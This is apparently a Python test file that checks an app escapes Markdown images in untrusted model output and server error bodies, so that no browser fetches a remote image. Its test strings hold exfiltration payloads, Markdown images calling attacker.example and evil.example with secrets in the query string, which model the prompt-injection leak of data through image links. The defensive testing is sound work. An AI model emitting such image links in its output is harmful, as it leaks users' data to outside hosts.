"""Untrusted model output never makes the viewer's browser fetch a remote image."""

from __future__ import annotations

from lib.safe_text import display_markdown
from tests.api_double import ApiDouble, Reply
from tests.test_tool_loop import _app
from tests.stubs import StubServer

EXFIL = "Done. ![x](https://attacker.example/p.png?q=secret)"


def test_markdown_images_become_literal_text_and_links_stay() -> None:
    assert display_markdown(EXFIL) == "Done. !\\[x](https://attacker.example/p.png?q=secret)"
    assert display_markdown("[docs](https://example.org)") == "[docs](https://example.org)"
    assert display_markdown("no images here") == "no images here"


def test_tool_page_shows_an_injected_image_as_text() -> None:
    with ApiDouble() as double, StubServer() as stub:
        double.queue(Reply(text=EXFIL))
        at = _app(double, stub)
        at.chat_input[0].set_value("hello").run()
        assert not at.exception
        shown = [m.value for m in at.markdown if "attacker.example" in m.value]
        assert shown and all("!\\[x]" in v for v in shown)


def test_counts_read_as_english() -> None:
    from lib.safe_text import plural

    assert [plural(n, "model") for n in (0, 1, 2)] == ["0 models", "1 model", "2 models"]


def test_a_servers_words_show_as_written_with_no_image_no_link() -> None:
    """An upstream error body is untrusted: `![](url)` in it must not become an image every viewer's browser
    fetches (a tracking pixel), nor a link (bracketed or bare), nor formatting: every Markdown character is escaped."""
    import re

    from lib.safe_text import literal

    hostile = "Bad ![pixel](http://evil.example/p.png?c=secret) see [here](http://evil.example) **now** `x` _y_"
    out = literal(hostile)
    unescaped = re.findall(r"(?<!\\)[!\[\]()*_`:]", out)
    assert unescaped == [], unescaped
    assert re.sub(r"\\(.)", r"\1", out) == hostile  # what a reader sees is exactly what the server wrote
